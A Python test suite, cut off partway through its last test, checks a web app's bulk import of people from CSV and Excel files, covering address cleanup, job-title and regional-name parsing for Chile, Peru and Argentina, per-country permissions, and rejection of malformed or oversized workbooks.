import io
import time

import pytest
import sqlalchemy as sa
from flask_babel import force_locale
from openpyxl import load_workbook

from app.auth.models import Role, User
from app.cohorts.models import CohortMember
from app.errors import ValidationError
from app.extensions import db
from app.imports import services
from app.imports.models import BatchStatus
from app.notifications.models import Notification
from app.places.timezones import moment_for as tokens_moment_for
from tests.fixtures.workbooks import workbook_bytes


def codes(problems):
    return [(p["line"], p["code"]) for p in problems]


def csv(*lines, header="email;full_name;position;institution;region;language"):
    return ("\n".join((header,) + lines) + "\n").encode("utf-8")


def test_every_bad_row_is_reported_with_its_line(app, make_user, make_institution):
    make_institution(country="CL", name="Gobierno Regional del Biobío")
    make_user(email="taken.abroad@example.org", country="AR")
    coordinator = make_user(roles=("coordinator",), country="CL")
    data = csv(
        "ok@example.org;Ana;técnico;gobierno regional del biobio;Biobío;es",  # 2: fine (accents, case)
        "dup@example.org;B;manager;;;",  # 3
        "DUP@example.org;C;manager;;;",  # 4: same as line 3
        "taken.abroad@example.org;D;manager;;;",  # 5: used in another country
        "not-an-email;E;manager;;;",  # 6
        "f@example.org;F;chief;;;",  # 7: unknown position
        "g@example.org;G;manager;Ministry of Magic;;",  # 8
        "h@example.org;H;manager;;Atlantis;",  # 9
        "i@example.org;;manager;;;fr",  # 10: no name, unknown language
        "",
        "j@example.org;J;manager;;CL-NB;pt",  # 12: fine (region by code, language alias)
    )
    batch = services.preview(coordinator, filename="lista.csv", data=data, country_code="CL")
    assert codes(batch.problems) == [(4, "duplicate"), (5, "taken_elsewhere"), (6, "email"), (7, "position"),
                                     (8, "institution"), (9, "region"), (10, "required"), (10, "language")]
    assert services.message(batch.problems[0]) == "The same e-mail address is on line 3"
    with pytest.raises(ValidationError):
        services.run_import(coordinator, batch)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User)) == 2  # nothing imported


def test_a_rows_problems_read_in_the_order_of_its_columns(app, make_user):
    """A row wrong in every column listed its problems by the columns' names in English, alphabetically: the
    language (the last column) before the position (the third), the e-mail address after the institution."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    data = csv("not-an-email;;chief;Ministry of Magic;Atlantis;fr")
    batch = services.preview(coordinator, filename="lista.csv", data=data, country_code="CL")
    assert [p["field"] for p in batch.problems] == ["email", "full_name", "position", "institution", "region",
                                                    "language"]


def test_a_failed_formula_in_the_name_column_is_no_name(app, make_user):
    """A name looked up by formula (VLOOKUP) shows #N/A where the lookup found nothing; Excel saves that, and the
    import took it for a name since it has letters: people called "#N/A" or "#¡VALOR!"."""
    import io

    from openpyxl import Workbook

    coordinator = make_user(roles=("coordinator",), country="CL")
    workbook = Workbook()
    workbook.active.append(["email", "full name", "position"])
    for n, name in enumerate(["#N/A", "#REF!", "#VALOR!", "#¿NOMBRE?", "Ana Pérez"], start=1):
        workbook.active.append([f"p{n}@example.org", name, "técnico"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    batch = services.preview(coordinator, filename="lista.xlsx", data=buffer.getvalue(), country_code="CL")
    assert codes(batch.problems) == [(2, "no_letters"), (3, "no_letters"), (4, "no_letters"), (5, "no_letters")]
    assert services.message(batch.problems[0]) == "“#N/A” is not a name: write the person's full name"


def test_valid_file_imports_everyone_with_invitations_and_cohort(app, make_user, make_institution, make_cohort,
                                                                 outbox):
    institution = make_institution(country="BR", name="Secretaria de Ciência de Pernambuco", region="BR-PE",
                                   level="regional")
    cohort = make_cohort(country="BR", name="Turma 2027")
    coordinator = make_user(roles=("coordinator",), country="BR")
    data = csv("maria@example.org;Maria Souza;gestora;Secretaria de Ciência de Pernambuco;Pernambuco;",
               "jose@example.org;José Lima;técnico;;BR-SP;en")
    batch = services.preview(coordinator, filename="turma.csv", data=data, country_code="BR",
                             cohort_id=cohort.id)
    assert batch.problems == []
    assert services.run_import(coordinator, batch) == 2
    db.session.commit()
    maria = db.session.scalar(sa.select(User).where(User.email == "maria@example.org"))
    jose = db.session.scalar(sa.select(User).where(User.email == "jose@example.org"))
    assert maria.roles == {Role.TRAINEE} and maria.position == "manager" and maria.institution == institution
    assert (maria.region_code, maria.locale, jose.locale) == ("BR-PE", "pt_BR", "en")
    assert maria.password_hash is None
    invitations = [m for m in outbox() if "/auth/invitation/" in m.body]
    assert {m.to_address for m in invitations} == {"maria@example.org", "jose@example.org"}
    assert db.session.scalar(sa.select(sa.func.count()).select_from(CohortMember)) == 2
    assert batch.status is BatchStatus.IMPORTED and batch.imported_count == 2
    note = db.session.scalar(sa.select(Notification).where(Notification.user_id == coordinator.id))
    assert note.kind == "import_completed" and note.data["count"] == 2
    with pytest.raises(ValidationError):
        services.run_import(coordinator, batch)  # a batch is imported once


def test_a_job_title_is_read_by_the_position_it_starts_with(app, make_user):
    """A public body's list gives each person's job title; its first word says the position (the preview shows the
    title beside the reading). A title that starts otherwise is still a problem."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "a@example.org;A;Jefa de División;;;", "b@example.org;B;Directora Regional;;;",
        "c@example.org;C;Analista de proyectos;;;", "d@example.org;D;Profesional de apoyo;;;",
        "e@example.org;E;Técnico en planificación;;;", "f@example.org;F;Subdirector de Innovación;;;",
        "g@example.org;G;Encargado de fomento;;;"), country_code="CL")
    assert codes(batch.problems) == [(8, "position")]
    assert [row["position"] for row in services.as_read(coordinator, batch, batch.rows[:6])] == [
        "manager", "manager", "technician", "technician", "technician", "manager"]


def test_a_job_title_written_for_either_gender_is_read_by_its_position(app, make_user):
    """Lists write a title for either gender as "Director(a)", "Jefe(a)", "Diretor(a)", as they write "Gestor(a)"."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "a@example.org;A;Director(a) de Planificación;;;", "b@example.org;B;Jefe(a) de Unidad;;;",
        "c@example.org;C;Jefe/a de Departamento;;;", "d@example.org;D;Diretor(a) de Inovação;;;"), country_code="CL")
    assert batch.problems == []
    assert {row["position"] for row in services.as_read(coordinator, batch, batch.rows)} == {"manager"}


def test_a_job_title_that_names_a_manager_after_a_technician_word_is_not_guessed(app, make_user):
    """"Technical Director" and "Profesional Jefe" start with a technician's word but name someone who manages: the
    preview asks for the position rather than reading them as technicians. "Director técnico" is still a manager."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "a@example.org;A;Technical Director;;;", "b@example.org;B;Profesional Jefe de Unidad;;;",
        "c@example.org;C;Director técnico;;;", "d@example.org;D;Técnico de apoyo;;;"), country_code="CL")
    assert codes(batch.problems) == [(2, "position"), (3, "position")]
    assert [row["position"] for row in services.as_read(coordinator, batch, batch.rows[2:])] == [
        "manager", "technician"]


def test_a_manager_named_after_a_technician_word_is_not_guessed_whatever_the_punctuation_around_it(app, make_user):
    """Staff lists write the manager's word with a comma, in brackets or after a slash ("Profesional Jefe, Unidad de
    Finanzas", "Técnico (Jefe de turno)", "Technical lead/manager"): the preview asks for those too, as for
    "Profesional Jefe de Unidad", rather than reading them as technicians."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "a@example.org;A;Profesional Jefe, Unidad de Finanzas;;;", "b@example.org;B;Técnico (Jefe de turno);;;",
        "c@example.org;C;Technical lead/manager;;;", "d@example.org;D;Analista de la Unidad, Finanzas;;;"),
        country_code="CL")
    assert codes(batch.problems) == [(2, "position"), (3, "position"), (4, "position")]
    assert [row["position"] for row in services.as_read(coordinator, batch, batch.rows[3:])] == ["technician"]


def test_an_institution_is_found_by_its_acronym_or_its_name_without_it(app, make_user, make_institution):
    """Itinera names an institution with its acronym ("Corporación de Fomento de la Producción (CORFO)"); a list
    writes either alone. An acronym two institutions share finds neither, and says so."""
    corfo = make_institution(country="CL", name="Corporación de Fomento de la Producción (CORFO)")
    make_institution(country="CL", name="Servicio de Salud (SS)")
    make_institution(country="CL", name="Subsecretaría de Salud (SS)")
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "a@example.org;A;manager;CORFO;;", "b@example.org;B;manager;Corfo;;",
        "c@example.org;C;manager;Corporacion de Fomento de la Produccion;;",
        "d@example.org;D;manager;SS;;"), country_code="CL")
    assert codes(batch.problems) == [(5, "institution")]
    read = services.as_read(coordinator, batch, batch.rows[:3])
    assert [row["institution"] for row in read] == [corfo.name] * 3


def test_a_name_that_ends_in_a_place_or_a_campus_in_brackets_has_no_acronym(app, make_user, make_institution):
    """"Universidad de Chile (Sede Norte)" is one campus, not the university a list names "Universidad de Chile";
    "(Temuco)" is where a hospital is, not its acronym: neither is found by a part of the name alone."""
    make_institution(country="CL", name="Universidad de Chile (Sede Norte)")
    make_institution(country="CL", name="Hospital Regional (Temuco)")
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "a@example.org;A;manager;Universidad de Chile;;", "b@example.org;B;manager;Temuco;;",
        "c@example.org;C;manager;Hospital Regional (Temuco);;"), country_code="CL")
    assert codes(batch.problems) == [(2, "institution"), (3, "institution")]


def test_an_address_copied_as_a_mailto_link_is_the_address(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="AR")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "mailto:rosa@itinera.test;Rosa;manager;;;", "MAILTO:Luz@Itinera.test;Luz;manager;;;",
        "mailto:;Nadie;manager;;;"), country_code="AR")
    assert codes(batch.problems) == [(4, "required")]  # "mailto:" with no address after it: none given
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "mailto:rosa@itinera.test;Rosa;manager;;;", "MAILTO:Luz@Itinera.test;Luz;manager;;;"), country_code="AR")
    assert batch.problems == [] and services.run_import(coordinator, batch) == 2
    db.session.commit()
    assert db.session.scalars(sa.select(User.email).where(User.country_code == "AR", User.full_name.in_(
        ["Rosa", "Luz"])).order_by(User.email)).all() == ["luz@itinera.test", "rosa@itinera.test"]


def test_an_address_copied_from_a_mail_program_with_its_name_is_the_address(app, make_user):
    """Outlook and Gmail copy a recipient as "Name <address>": the address inside the angle brackets is the one
    meant; anything else around brackets is still no address."""
    coordinator = make_user(roles=("coordinator",), country="AR")
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "Rosa Díaz <Rosa@Itinera.test>;Rosa;manager;;;", "\"Luz, Ana\" <luz@itinera.test>;Luz;manager;;;",
        "<beto@itinera.test>;Beto;manager;;;", "a <b> <c@itinera.test>;C;manager;;;",
        "x@itinera.test <y@itinera.test>;X;manager;;;"), country_code="AR")
    assert codes(batch.problems) == [(5, "email"), (6, "email")]
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "Rosa Díaz <Rosa@Itinera.test>;Rosa;manager;;;", "\"Luz, Ana\" <luz@itinera.test>;Luz;manager;;;",
        "<beto@itinera.test>;Beto;manager;;;"), country_code="AR")
    assert batch.problems == [] and services.run_import(coordinator, batch) == 3
    db.session.commit()
    assert db.session.scalars(sa.select(User.email).where(User.country_code == "AR", User.full_name.in_(
        ["Rosa", "Luz", "Beto"])).order_by(User.email)).all() == [
            "beto@itinera.test", "luz@itinera.test", "rosa@itinera.test"]


def test_invisible_characters_in_an_address_cell_are_left_out(app, make_user, outbox):
    """Files joined together bring a BOM to the start of a line, text pasted from Word a soft hyphen: the address is
    still the one written, taken by an account or repeated in the file."""
    from app.auth.services import get_user_by_email

    make_user(email="manager.ar@itinera.test", country="AR")
    coordinator = make_user(roles=("coordinator",), country="AR")
    data = csv("\ufeffmanager.ar@itinera.test;A;manager;;;",
               "rosa@itinera.test\u00ad;Rosa;manager;;;",
               "ROSA@itinera.test;Rosa Dos;manager;;;",
               "\u200bluz@itinera.test\u00a0;Luz;manager;;;",
               "\u00ad;Nadie;manager;;;")
    batch = services.preview(coordinator, filename="lista.csv", data=data, country_code="AR")
    assert codes(batch.problems) == [(2, "taken"), (4, "duplicate"), (6, "required")]
    _rows, problems = services.check_rows("AR", [{"line": 2, "email": "\ufeffmanager.ar@itinera.test",
                                                 "full_name": "A", "position": "manager"}])
    assert codes(problems) == [(2, "taken")]
    batch = services.preview(coordinator, filename="lista.csv", data=csv(
        "rosa@itinera.test\u00ad;Rosa;manager;;;", "\u200bluz@itinera.test\u00a0;Luz;manager;;;"),
        country_code="AR")
    assert batch.problems == [] and services.run_import(coordinator, batch) == 2
    db.session.commit()
    assert get_user_by_email("rosa@itinera.test").full_name == "Rosa"
    assert get_user_by_email("luz@itinera.test").full_name == "Luz"
    invitations = [m for m in outbox() if "/auth/invitation/" in m.body]
    assert {m.to_address for m in invitations} == {"rosa@itinera.test", "luz@itinera.test"}


def test_confirming_checks_again(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="MX")
    batch = services.preview(coordinator, filename="a.csv", data=csv("late@example.org;L;manager;;;"),
                             country_code="MX")
    make_user(email="late@example.org", country="MX")  # taken between preview and confirmation
    with pytest.raises(ValidationError):
        services.run_import(coordinator, batch)
    assert codes(batch.problems) == [(2, "taken")]


def test_coordinators_import_into_their_own_country_only(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="MX")
    with pytest.raises(ValidationError) as error:
        services.preview(coordinator, filename="a.csv", data=csv("x@example.org;X;manager;;;"), country_code="CO")
    assert "country_code" in error.value.errors


def test_a_batch_is_opened_only_by_who_manages_its_country(app, make_user):
    """The preview holds names and addresses: another country's coordinator is refused it, an admin is not."""
    from werkzeug.exceptions import Forbidden

    batch = services.preview(make_user(roles=("coordinator",), country="MX"), filename="a.csv",
                             data=csv("x@example.org;X;manager;;;"), country_code="MX")
    db.session.commit()
    assert services.get_batch(make_user(roles=("admin",), country=None), batch.id) == batch
    for other in (make_user(roles=("coordinator",), country="CO"), make_user(roles=("trainer",), country="MX")):
        with pytest.raises(Forbidden):
            services.get_batch(other, batch.id)

def test_five_thousand_rows(app, make_user, outbox):
    coordinator = make_user(roles=("coordinator",), country="CO")
    lines = [f"person{n}@example.org;Persona {n};{'técnico' if n % 2 else 'directivo'};;Antioquia;"
             for n in range(5000)]
    started = time.perf_counter()
    batch = services.preview(coordinator, filename="grande.csv", data=csv(*lines), country_code="CO")
    db.session.commit()
    assert batch.problems == [] and len(batch.rows) == 5000
    assert services.run_import(coordinator, batch) == 5000
    db.session.commit()
    elapsed = time.perf_counter() - started
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User).where(User.country_code == "CO")) == 5001
    assert len([m for m in outbox() if "/auth/invitation/" in m.body]) == 5000
    print(f"5,000 rows previewed, imported and invited in {elapsed:.1f} s")


def test_a_nul_in_a_cell_is_an_unreadable_character_problem(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="CL")
    data = csv("a\x00@example.org;Ana;manager;;;", "b@example.org;Be\x00to;man\x00ager;;;")
    batch = services.preview(coordinator, filename="bad\x00name.csv", data=data, country_code="CL")
    db.session.commit()  # PostgreSQL stores the batch: no NUL left in it
    assert codes(batch.problems) == [(2, "unreadable"), (3, "unreadable"), (3, "unreadable")]
    assert [p["field"] for p in batch.problems] == ["email", "full_name", "position"]
    assert services.message(batch.problems[0]).startswith("E-mail address holds an unreadable character")
    assert batch.filename == "badname.csv"


def test_a_confirmation_racing_another_imports_nothing_twice(app, make_user):
    """Two confirmations read the batch before either commits: the database claim lets only one through."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", data=csv("a@example.org;A;manager;;;"),
                             country_code="CL")
    db.session.commit()
    assert batch.status is BatchStatus.PREVIEW  # what the second request read
    db.session.execute(sa.text("UPDATE import_batch SET status = 'imported' WHERE id = :id"), {"id": batch.id})
    with pytest.raises(ValidationError) as refused:  # what the first request did meanwhile
        services.run_import(coordinator, batch)
    assert "already been imported" in str(refused.value)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User).where(User.country_code == "CL")) == 1


def test_a_failed_second_check_releases_the_claim(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", data=csv("a@example.org;A;manager;;;"),
                             country_code="CL")
    db.session.commit()
    make_user(email="a@example.org", country="AR")  # the address is taken meanwhile
    with pytest.raises(ValidationError):
        services.run_import(coordinator, batch)
    db.session.commit()
    db.session.expire_all()
    assert batch.status is BatchStatus.PREVIEW and codes(batch.problems) == [(2, "taken_elsewhere")]


def test_the_completed_import_notification_is_pluralised_and_localised(app, make_user):
    from app.notifications.services import text_of

    coordinator = make_user(roles=("coordinator",), country="CL", locale="es")
    many = services.preview(coordinator, filename="big.csv", country_code="CL",
                            data=csv(*(f"p{n}@example.org;P{n};manager;;;" for n in range(1200))))
    one = services.preview(coordinator, filename="one.csv", country_code="CL", data=csv("o@example.org;O;manager;;;"))
    services.run_import(coordinator, many)
    services.run_import(coordinator, one)
    db.session.commit()
    notes = db.session.scalars(sa.select(Notification).where(Notification.kind == "import_completed")
                               .order_by(Notification.id)).all()
    assert [text_of(n) for n in notes] == ["1,200 people imported from big.csv", "1 person imported from one.csv"]


def test_two_confirmations_at_the_same_time_import_once(app, make_user):
    """A double click: two requests read the batch, then both confirm; one imports, the other is told."""
    import threading

    coordinator = make_user(roles=("coordinator",), country="CL")
    batch_id = services.preview(coordinator, filename="a.csv", country_code="CL",
                                data=csv(*(f"p{n}@example.org;P{n};manager;;;" for n in range(50)))).id
    db.session.commit()
    both_read, outcomes = threading.Barrier(2), []

    def confirm():
        with app.app_context():
            actor = db.session.get(User, coordinator.id)
            batch = services.get_batch(actor, batch_id)
            assert batch.status is BatchStatus.PREVIEW
            both_read.wait()
            try:
                outcomes.append(services.run_import(actor, batch))
                db.session.commit()
            except ValidationError as error:
                db.session.commit()
                outcomes.append(str(error))
            except Exception as error:  # noqa: BLE001  (reported below)
                outcomes.append(repr(error))

    threads = [threading.Thread(target=confirm) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert sorted(outcomes, key=str) == [50, "batch: This file has already been imported"]
    db.session.expire_all()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User).where(User.country_code == "CL")) == 51


def test_director_and_diretor_are_managers(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="BR")
    batch = services.preview(coordinator, filename="lista.csv", country_code="BR", data=csv(
        "a@example.org;Ana;Diretora;;;", "b@example.org;Bia;Profissional;;;", "c@example.org;Caio;Director;;;"))
    assert batch.problems == []
    services.run_import(coordinator, batch)
    positions = dict(db.session.execute(sa.select(User.email, User.position).where(User.email.like("%@example.org")
                                                                                     & (User.id != coordinator.id))).all())
    assert positions == {"a@example.org": "manager", "b@example.org": "technician", "c@example.org": "manager"}


def test_a_workbook_bomb_is_a_message_on_the_file_field(app, make_user):
    from tests.fixtures.workbooks import PERSON, raw_workbook, sheet_xml

    coordinator = make_user(roles=("coordinator",), country="CL")
    data = raw_workbook(sheet_xml(PERSON, b"<row>" + b"<c><v>1</v></c>" * 20_000 + b"</row>"))
    with pytest.raises(ValidationError) as error:
        services.preview(coordinator, filename="bomb.xlsx", data=data, country_code="CL")
    assert "1,000,000 cells" in str(error.value.errors["file"])


def test_names_regions_and_languages_as_people_write_them(app, make_user):
    """A name column holding a number or a date is a problem; a region written with its type ("Región del
    Biobío") and a language tag with a country (es-CL) are understood."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", country_code="CL", data=csv(
        "a@example.org;Ana;manager;;Región del Biobío;es-CL",
        "b@example.org;12345;manager;;;",
        "c@example.org;2020-01-01 00:00:00;manager;;Region of Atlantis;en-GB",
        "d@example.org;Dora;manager;;región de valparaíso;pt-PT"))
    assert codes(batch.problems) == [(3, "no_letters"), (4, "no_letters"), (4, "region")]
    assert services.message(batch.problems[0]) == "“12345” is not a name: write the person's full name"
    rows, _problems = services.check_rows("CL", [batch.rows[0], batch.rows[3]])
    assert [(row["region_code"], row["locale"]) for row in rows] == [("CL-BI", "es"), ("CL-VS", "pt_BR")]


def test_the_preview_says_what_a_workbook_left_out(app, client, login_as):
    data = workbook_bytes(("Old", [["email", "full_name", "position"], ["old@example.org", "Old", "manager"]]),
                          ("Chile", [["email", "full_name", "position"], ["ana@example.org", "Ana", "manager"],
                                     ["pe@example.org", "Pedro", "manager"]]))
    workbook = load_workbook(io.BytesIO(data))
    workbook["Old"].sheet_state = "hidden"
    workbook["Chile"].row_dimensions[3].hidden = True
    workbook["Chile"].insert_cols(1)
    workbook["Chile"]["A1"], workbook["Chile"]["A2"] = "email", "ana@old.example.org"  # the old address, hidden
    workbook["Chile"].column_dimensions["A"].hidden = True
    buffer = io.BytesIO()
    workbook.save(buffer)
    login_as("coordinator", country="CL")
    response = client.post("/admin/import", data={"file": (io.BytesIO(buffer.getvalue()), "people.xlsx"),
                                                  "country_code": "CL", "cohort_id": "", "send_invitations": "y"},
                           content_type="multipart/form-data")
    page = client.get(response.location).get_data(as_text=True)
    assert "1 person is ready to import." in page
    assert "The hidden sheet “Old” was not read." in page
    assert "1 row hidden in the sheet “Chile” (filtered out, or hidden by hand) was left out." in page
    assert "1 column hidden in the sheet “Chile” was left out." in page and "ana@old.example.org" not in page


def test_a_region_type_is_dropped_only_where_it_names_the_same_region(app, make_user):
    """"Provincia de Lima" and "Ciudad de Buenos Aires" are not Lima (the region) and Buenos Aires (the
    province): they name the capitals, which ISO 3166-2 lists apart."""
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region,
             "language": language} for n, (region, language) in enumerate(
                [("Ciudad de Buenos Aires", "en español"), ("CABA", "em português"), ("Buenos Aires", "es")], 2)]
    clean, problems = services.check_rows("AR", rows)
    assert problems == []
    assert [(row["region_code"], row["locale"]) for row in clean] == [("AR-C", "es"), ("AR-C", "pt_BR"),
                                                                      ("AR-B", "es")]
    rows = [dict(rows[0], region="Provincia de Lima"), dict(rows[1], region="Región Lima")]
    clean, problems = services.check_rows("PE", rows)
    assert problems == [] and [row["region_code"] for row in clean] == ["PE-LMA", "PE-LIM"]


def test_lima_is_found_as_a_peruvian_official_writes_it_and_never_guessed(app, make_user):
    """Peru has two regions called Lima: the capital's province, Lima Metropolitana (PE-LMA, ISO 3166-2's
    "Municipalidad Metropolitana de Lima"), and the region around it, Lima Provincias (PE-LIM, ISO's "Lima"). "Lima"
    alone, "Departamento de Lima" (which holds both) or "Lima Province" (either, in English) was read as PE-LIM
    without a word: it now asks which, naming both; every name that can mean one only is found."""
    written = {"Lima Metropolitana": "PE-LMA", "Provincia de Lima": "PE-LMA", "Municipalidad Metropolitana de Lima":
               "PE-LMA", "Metropolitan Lima": "PE-LMA", "Province of Lima": "PE-LMA", "PE-LMA": "PE-LMA",
               "Lima Provincias": "PE-LIM", "Región Lima": "PE-LIM", "Región Lima Provincias": "PE-LIM",
               "Gobierno Regional de Lima": "PE-LIM", "Lima Region": "PE-LIM", "Lima Provinces": "PE-LIM",
               "PE-LIM": "PE-LIM", "Callao": "PE-CAL", "El Callao": "PE-CAL", "Región Callao": "PE-CAL",
               "Provincia Constitucional del Callao": "PE-CAL", "Gobierno Regional del Callao": "PE-CAL"}
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
            for n, region in enumerate(written, start=2)]
    clean, problems = services.check_rows("PE", rows)
    assert [services.message(p) for p in problems] == []
    assert dict(zip(written, [row["region_code"] for row in clean])) == written
    ambiguous = ["Lima", "LIMA", "Departamento de Lima", "Lima Province"]
    rows = [dict(rows[0], line=n, email=f"a{n}@example.org", region=region) for n, region in enumerate(ambiguous, 2)]
    clean, problems = services.check_rows("PE", rows)
    assert [row["region_code"] for row in clean] == [None] * 4  # nothing is taken for granted
    assert [(p["line"], p["field"], p["code"]) for p in problems] == [(n, "region", "region_ambiguous")
                                                                      for n in range(2, 6)]
    assert services.message(problems[0]) == ("“Lima” may be either of two regions: write “Lima Metropolitana” "
                                             "(PE-LMA) or “Lima Provincias” (PE-LIM)")
    with force_locale("es"):
        assert "“Lima Metropolitana” (PE-LMA) o “Lima Provincias” (PE-LIM)" in services.message(problems[2])
    clean, problems = services.check_rows("CL", [dict(rows[0], region="Lima")])  # no Lima there: no question
    assert codes(problems) == [(2, "region")]


def test_a_lima_is_suggested_and_shown_read_by_a_name_that_is_one_region_only(app, make_user):
    """The name ISO 3166-2 gives Lima Provincias is "Lima", which an import refuses as either of two regions: a
    mistyped name was answered "did you mean “Lima”?", and the preview showed a row read as PE-LIM as "Lima"."""
    rows = [{"line": 2, "email": "p@example.org", "full_name": "P", "position": "manager", "region": "Lima Provincas"}]
    clean, problems = services.check_rows("PE", rows)
    assert [services.message(p) for p in problems] == [
        "No region called “Lima Provincas” in this country: did you mean “Lima Provincias”?"]
    coordinator = make_user(roles=("coordinator",), country="PE")
    written = [dict(rows[0], email=f"p{n}@example.org", region=region)
               for n, region in enumerate(("Región Lima", "Provincia de Lima"))]
    batch = services.preview(coordinator, filename="a.csv", country_code="PE", data=csv(
        *(f"{row['email']};P;manager;;{row['region']};" for row in written)))
    assert [row["region"] for row in services.as_read(coordinator, batch, written)] == [
        "Lima Provincias", "Lima Metropolitana"]


def test_a_name_of_200_characters_is_kept_and_one_more_is_too_long(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", country_code="CL", data=csv(
        f"ok@example.org;{'N' * 200};manager;;;", f"long@example.org;{'N' * 201};manager;;;"))
    assert [(p["line"], p["field"], p["code"]) for p in batch.problems] == [(3, "full_name", "too_long")]


def test_every_address_is_checked_against_the_accounts_however_long_the_list(app, make_user):
    """The addresses are looked up 500 at a time: the last of a chunk is looked up too."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    make_user(email="person499@example.org", country="CL")
    make_user(email="person500@example.org", country="CL")
    lines = [f"person{n}@example.org;Persona {n};manager;;;" for n in range(501)]
    batch = services.preview(coordinator, filename="a.csv", data=csv(*lines), country_code="CL")
    assert codes(batch.problems) == [(501, "taken"), (502, "taken")]


def test_the_cohort_must_be_of_the_country_imported_into(app, make_user, make_cohort):
    coordinator = make_user(roles=("admin",), country=None)
    abroad = make_cohort(country="AR")
    with pytest.raises(ValidationError) as error:
        services.preview(coordinator, filename="a.csv", data=csv("x@example.org;X;manager;;;"), country_code="CL",
                         cohort_id=abroad.id)
    assert "cohort_id" in error.value.errors


def test_only_a_manager_of_the_batchs_country_may_confirm_it(app, make_user):
    from werkzeug.exceptions import Forbidden

    batch = services.preview(make_user(roles=("coordinator",), country="CL"), filename="a.csv",
                             data=csv("x@example.org;X;manager;;;"), country_code="CL")
    db.session.commit()
    with pytest.raises(Forbidden):
        services.run_import(make_user(roles=("coordinator",), country="AR"), batch)
    db.session.rollback()
    assert db.session.get(type(batch), batch.id).status is BatchStatus.PREVIEW
    assert db.session.scalar(sa.select(User).where(User.email == "x@example.org")) is None


def test_an_import_without_invitations_sends_none(app, make_user, outbox):
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", data=csv("x@example.org;X;manager;;;"),
                             country_code="CL", send_invitations=False)
    assert services.run_import(coordinator, batch) == 1
    db.session.commit()
    assert not any("/auth/invitation/" in m.body for m in outbox() if m.body)
    assert db.session.scalar(sa.select(User).where(User.email == "x@example.org")).password_hash is None


def test_an_address_cell_in_full_width_characters_is_the_plain_address(app, make_user):
    """A list typed on a full-width keyboard: ＲＯＳＡ＠ｉｔｉｎｅｒａ．ｔｅｓｔ is rosa@itinera.test, taken by an account
    or repeated in the file, not one more person."""
    make_user(email="manager.ar@itinera.test", country="AR")
    coordinator = make_user(roles=("coordinator",), country="AR")
    data = csv("ｍａｎａｇｅｒ.ａｒ@itinera.test;A;manager;;;",
               "rosa@itinera.test;Rosa;manager;;;",
               "ＲＯＳＡ＠ｉｔｉｎｅｒａ．ｔｅｓｔ;Rosa Dos;manager;;;")
    batch = services.preview(coordinator, filename="lista.csv", data=data, country_code="AR")
    assert codes(batch.problems) == [(2, "taken"), (4, "duplicate")]


def test_chilean_regions_are_found_by_the_names_chileans_write(app, make_user):
    """A Chilean ministry's list names its regions as Chile does ("Metropolitana de Santiago", "O'Higgins",
    "Aysén", "Araucanía", "Bío Bío", "Magallanes y la Antártica Chilena"): each was refused as no region."""
    written = {"Metropolitana de Santiago": "CL-RM", "O'Higgins": "CL-LI", "Libertador Bernardo O'Higgins": "CL-LI",
               "Región del Libertador General Bernardo O'Higgins": "CL-LI", "Aysén": "CL-AI", "Aysen": "CL-AI",
               "Región de Aysén del General Carlos Ibáñez del Campo": "CL-AI", "Araucanía": "CL-AR",
               "Region de la Araucania": "CL-AR", "Bío Bío": "CL-BI", "Bio-Bio": "CL-BI", "Magallanes": "CL-MA",
               "Magallanes y la Antártica Chilena": "CL-MA", "Región de Magallanes y de la Antártica Chilena":
               "CL-MA"}
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
            for n, region in enumerate(written, start=2)]
    clean, problems = services.check_rows("CL", rows)
    assert [services.message(p) for p in problems] == []
    assert [row["region_code"] for row in clean] == list(written.values())


def test_chilean_regions_are_found_by_their_numbers(app, make_user):
    """Chile numbers its regions, and its public bodies' lists write them so ("V Región", "Región de Los Ríos
    (XIV)"): each was refused as no region. Another country's list gives no meaning to a numeral."""
    written = {"V Región": "CL-VS", "Región V": "CL-VS", "VIII": "CL-BI", "XIV Región de Los Ríos": "CL-LR",
               "Región de Los Ríos (XIV)": "CL-LR", "IX Región de la Araucanía": "CL-AR", "XVI Región": "CL-NB",
               "xiii región": "CL-RM", "Región I": "CL-TA"}
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
            for n, region in enumerate(written, start=2)]
    clean, problems = services.check_rows("CL", rows)
